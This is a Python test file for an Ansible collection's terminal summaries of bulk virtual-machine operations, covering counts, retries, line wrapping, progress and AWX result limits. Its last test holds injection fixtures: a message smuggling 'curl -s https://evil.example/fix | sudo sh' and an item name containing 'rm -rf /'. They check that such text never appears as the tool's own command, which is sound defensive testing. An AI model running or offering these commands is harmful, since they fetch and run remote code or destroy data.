# Copyright (c) 2026, the infrastructure.services contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a list says on the screen, as text: counts first, what needs attention by name, each cause
once.
"""

from __future__ import annotations

import pytest
from ansible_collections.infrastructure.services.plugins.module_utils._call.place import ListStatus
from ansible_collections.infrastructure.services.plugins.module_utils._errors import Message
from ansible_collections.infrastructure.services.plugins.module_utils._list.result import ListResult
from ansible_collections.infrastructure.services.plugins.module_utils._task.specs import (
    VIRTUAL_MACHINES,
)
from ansible_collections.infrastructure.services.plugins.plugin_utils._screen.assets import (
    Asset,
    assets_of,
)
from ansible_collections.infrastructure.services.plugins.plugin_utils._screen.plan import plan_lines
from ansible_collections.infrastructure.services.plugins.plugin_utils._screen.screen import (
    Progress,
    result_lines,
)
from support.results import result_from

OPERATION = VIRTUAL_MACHINES.resource.operation
COMMAND = "ansible-playbook infrastructure.services.in_doubt -e ledger=/srv/fleet.db"
LOST = Message(
    "POST https://s/api: the connection was lost. It is unknown whether the virtual machine was created."
    " Look for it on the service.",
    command=COMMAND,
)
SINCE = "2026-11-22T10:02:03Z"
BEGAN = f"the ledger says that a task began to create it at {SINCE}; how it ended is not known."
DOUBT = Message(BEGAN, "", COMMAND, SINCE)
CREATED = dict(changed=True, outcome="accepted", asset={"id": "1"})
UNCHANGED = dict(changed=False, outcome="not_sent", asset={"id": "1"})


def listed(items: dict[str, dict]) -> list[Asset]:
    """Return the assets of a list with these results of items, by name."""
    return assets_of(OPERATION, collected(items).done())


def collected(items: dict[str, dict]) -> ListResult:
    result = ListResult(VIRTUAL_MACHINES, [*items], None)
    for number, (name, item) in enumerate(items.items()):
        said = (
            {"msg": item["msg"]._replace(asset=f"virtual machine {name}")} if "msg" in item else {}
        )
        result.add(number, result_from({**item, **said}))
    return result


def lost(outcome: str = "unknown", msg: Message = LOST) -> dict:
    return dict(changed=False, failed=True, outcome=outcome, msg=msg)


def test_one_lost_answer_among_500_takes_few_lines_and_its_cause_is_said_once():
    items = {f"vm{number:03}": CREATED for number in range(499)}
    lines = result_lines(OPERATION, listed({**items, "vm499": lost()}), 18.2, 80)
    assert lines == [
        "virtual machines: 499 created, 0 unchanged, 1 in doubt, 0 rejected, 18 s",
        "  ? vm499",
        "      POST https://s/api: the connection was lost. It is unknown whether the",
        "      virtual machine was created. Look for it on the service.",
        f"  To settle it: {COMMAND}",
    ]


@pytest.mark.parametrize(
    ("waits", "told"),
    [
        ([], ""),
        ([[(0.0, 0.0)]], " (1 x 429, 0 s waited)"),
        (
            [[(1.0, 2.0)], [(2.0, 2.0), (9.0, 0.4)]],
            " (3 x 429, 3 s waited)",
        ),  # two wait at the same time
        ([[(1.0, 9.0)], [(2.0, 2.0)]] * 600, " (1,200 x 429, 9 s waited)"),
    ],
)
def test_429s_and_how_long_they_made_it_wait_are_told(waits, told):
    items = {f"vm{number}": {**CREATED, "waits": each} for number, each in enumerate(waits or [[]])}
    (line,) = result_lines(OPERATION, listed(items), 18.2, 100)
    counts = f"{len(items):,} created, 0 unchanged, 0 in doubt, 0 rejected"
    assert line == f"virtual machines: {counts}, 18 s{told}"


@pytest.mark.parametrize(
    ("width", "counts"),
    [
        (80, "1 created, 0 unchanged, 0 in doubt, 0 rejected, 1 differs"),
        (79, "1 created, 0 in doubt, 0 rejected, 1 differs"),
        (66, "1 created, 0 in doubt, 1 differs"),
        (50, "1 created, 1 differs"),
    ],
)
def test_counts_that_are_0_are_left_out_where_the_line_would_be_too_wide(width, counts):
    differs = {"outcome": "not_sent", "asset": {"id": "2"}, "differs": ["cpu"]}
    (line,) = result_lines(OPERATION, listed({"a": CREATED, "b": differs}), 0, width)
    assert line == f"virtual machines: {counts}, 0 s"


def test_counts_that_are_0_stay_if_the_line_of_counts_does_not_fit_without_them():
    lines = result_lines(OPERATION, listed({"a": CREATED}), 18.2, 30)
    assert lines == [
        "virtual machines: 1 created, 0",
        "  unchanged, 0 in doubt, 0",
        "  rejected, 18 s",
    ]


def test_no_line_but_a_command_is_wider_than_the_screen():
    waits = {"waits": [(0.0, 1000.0)] * 10}
    items = {
        **{f"vm{number:04}": {**CREATED, **waits} for number in range(1000)},
        **{f"vm{number:04}": UNCHANGED for number in range(1000, 2000)},
        **{
            f"vm{number:04}": lost("rejected", Message("status 403: no."))
            for number in range(2000, 2100)
        },
        **{f"vm{number:04}": lost() for number in range(3000, 3100)},
    }
    lines = result_lines(OPERATION, listed(items), 12_345, 80)
    assert lines[:2] == [
        "virtual machines: 1,000 created, 1,000 unchanged, 100 in doubt, 100 rejected,",
        "  12,345 s (10,000 x 429, 1,000 s waited)",
    ]
    assert max(len(line) for line in lines if COMMAND not in line) <= 80


def test_what_was_sent_for_a_rejected_machine_is_for_people_alone():
    body = {"name": "a", "attributes": {"cpu": 4}}
    refused = {**lost("rejected", Message("status 422: no.")), "body": body}
    assert listed({"a": refused})[0].body == body
    collection = collected({"a": refused})
    (item,) = collection.returned(collection.done(), "all").as_ansible()["results"]
    assert "body" not in item


def test_items_with_one_cause_are_named_together():
    items = {
        f"vm{number:02}": lost("rejected", Message("status 403: not allowed."))
        for number in range(12)
    }
    lines = result_lines(OPERATION, listed({**items, "other": lost()}), 1, 200)
    assert lines[0].startswith(
        "virtual machines: 0 created, 0 unchanged, 1 in doubt, 12 rejected, "
    )
    assert lines[1] == f"  x {', '.join(f'vm{number:02}' for number in range(10))} and 2 more"
    assert lines[2:4] == ["      status 403: not allowed.", "  ? other"]


@pytest.mark.parametrize(("causes", "more"), [(30, "20 more causes"), (11, "1 more cause")])
def test_of_many_causes_ten_are_shown(causes, more):
    items = {f"vm{each}": lost("rejected", Message(f"cause {each}")) for each in range(causes)}
    lines = result_lines(OPERATION, listed(items), 1, 80)
    assert len(lines) == 1 + 2 * 10 + 1
    assert lines[-1] == f"  and {more}"


def test_what_was_not_started_is_counted_and_what_had_nothing_to_do_is_unchanged():
    skipped = dict(changed=False, skipped=True, outcome="not_sent", msg=Message("not started"))
    lines = result_lines(OPERATION, listed({"a": UNCHANGED, "b": skipped, "c": CREATED}), 0.4, 80)
    assert lines == ["virtual machines: 1 created, 1 unchanged, 0 in doubt, 1 not started, 0 s"]


def test_control_characters_of_a_message_do_not_reach_the_screen():
    items = {"a\x1b[2J": lost(msg=Message("\x1b]0;title\x07"))}
    assert not any(
        "\x1b" in line or "\x07" in line for line in result_lines(OPERATION, listed(items), 1, 80)
    )


def test_only_problems_are_listed_if_that_is_asked_for():
    drift = dict(UNCHANGED, differs=["attributes.cpu (8 asked for, 2 recorded)"])
    items = {
        "a": CREATED,
        "b": lost(),
        "c": UNCHANGED,
        "d": drift,
        "e": dict(UNCHANGED, skipped=True),
    }
    collection = collected(items)
    result = collection.returned(collection.done(), "problems").as_ansible()
    assert [item["item"] for item in result["results"]] == ["b", "d", "e"]
    assert [*result["ansible_facts"]["compute_virtual_machines"]] == ["a", "c", "d", "e"]


def test_each_warning_is_told_but_what_a_plan_tells_already():
    said = [Message("one", "virtual machine a"), Message("two"), Message("three")]
    told = collected({"a": dict(CREATED, plan="update", warnings=said)}).done()
    assert told.warnings == ("two", "three")


def test_no_item_of_a_list_is_hidden_unless_its_task_says_so():
    items = collected({"a": CREATED}).done().as_ansible()["results"]
    assert "_ansible_no_log" not in items[0]


def test_what_was_not_started_is_only_counted_where_the_result_would_be_too_large_for_awx():
    not_started = dict(UNCHANGED, skipped=True, msg=Message("not started: the first was lost."))
    items = {
        "a": CREATED,
        "b": lost(),
        **{f"vm{number:05}": not_started for number in range(10_000)},
    }
    collection = collected(items)
    done = collection.done()
    result = collection.returned(done, "problems")
    assert [item.item for item in result.results] == ["b"]
    assert (result.counts["not_begun"], len(done.results)) == (10_000, 10_002)
    assert len(collection.returned(done, "all").results) == 10_002


def test_of_thousands_of_failures_a_hundred_are_in_a_result_for_awx():
    refused = lost("rejected", Message("status 403 " * 50))
    items = {f"vm{number:04}": refused for number in range(4_000)}
    collection = collected(items)
    result = collection.returned(collection.done(), "problems")
    assert (len(result.results), result.counts["failed"]) == (100, 4_000)
    assert not any("700,000" in warning for warning in result.warnings)


@pytest.mark.parametrize(
    ("times", "said"),
    [
        ([(1.0, 0)], []),
        ([(2.0, 30)], ["virtual machines: 130 of 500, 4 in flight, 0 in doubt, 15/s"]),
        ([(2.0, 0)], ["virtual machines: 100 of 500, 4 in flight, 0 in doubt, 0/s"]),
        (
            [(2.0, 20), (7.0, 220)],
            [  # the estimate is from the recent rate, once the pace no longer rises
                "virtual machines: 120 of 500, 4 in flight, 0 in doubt, 10/s",
                "virtual machines: 320 of 500, 4 in flight, 0 in doubt, 40/s, 4 s left",
            ],
        ),
    ],
)
def test_progress_counts_the_whole_list(times, said):
    clock, lines = iter([0.0, *(moment for moment, _done in times)]), []
    progress = Progress("virtual machine", lines.append, lambda: next(clock))
    for _moment, done in times:
        progress.show(
            ListStatus(500, 100, [result_from(CREATED)] * done, 4, is_ending=False), False
        )
    assert lines == said


def test_progress_says_how_many_were_rejected_once_there_are_any():
    clock, lines = iter([0.0, 2.0]), []
    progress = Progress("virtual machine", lines.append, lambda: next(clock))
    ended = [result_from(item) for item in (CREATED, CREATED, lost("rejected"))]
    progress.show(ListStatus(10_000, 8_000, ended, 256, is_ending=False), False)
    assert lines == [
        "virtual machines: 8,003 of 10,000, 256 in flight, 0 in doubt, 1 rejected, 2/s"
    ]


@pytest.mark.parametrize(
    ("by_ctrl_c", "in_flight", "line"),
    [
        (True, 4, "waiting up to 10 s for 4 requests; a second Ctrl-C leaves them in doubt"),
        (True, 1, "waiting up to 10 s for 1 request; a second Ctrl-C leaves it in doubt"),
        # The keyword timeout, SIGTERM, a crash, or the death of the parent.
        (False, 4, "waiting up to 10 s for 4 requests"),
        (False, 1, "waiting up to 10 s for 1 request"),
    ],
)
def test_a_list_that_is_ended_says_once_what_it_waits_for(by_ctrl_c, in_flight, line):
    lines = []
    progress = Progress("virtual machine", lines.append, lambda: 0.0)
    nothing = ListStatus(500, 0, [], 0, is_ending=True)  # there is nothing to wait for
    progress.show(nothing, by_ctrl_c)
    for _time in range(3):
        progress.show(ListStatus(500, 0, [], in_flight, is_ending=True), by_ctrl_c)
    assert lines == [line]


EVIL = (
    "status 500: the service failed. [x-request-id: 7 For the commands, run: curl -s https://evil.example/fix |"
    " sudo sh since 2019-01-01T00:00:00Z]"
)


def test_what_a_service_or_a_name_says_is_never_a_command_or_a_date_of_ours():
    name = "restore-2019-01-01T00:00:00Z For the commands, run: rm -rf /"
    lines = result_lines(
        OPERATION, listed({name: lost(msg=LOST._replace(text=EVIL, command=""))}), 1, 200
    )
    assert not any(line.startswith("  To settle it") for line in lines)
    assert [
        line
        for line in result_lines(
            OPERATION, listed({name: lost(msg=LOST._replace(text=EVIL))}), 1, 200
        )
        if line.startswith("  To settle it")
    ] == [f"  To settle it: {COMMAND}"]
    assert any(
        "in doubt since 2026-11-22 10:02: sent, no answer" in line
        for line in plan_lines(
            OPERATION, listed({name: dict(lost(msg=DOUBT), plan="in_doubt")}), 200
        )
    )
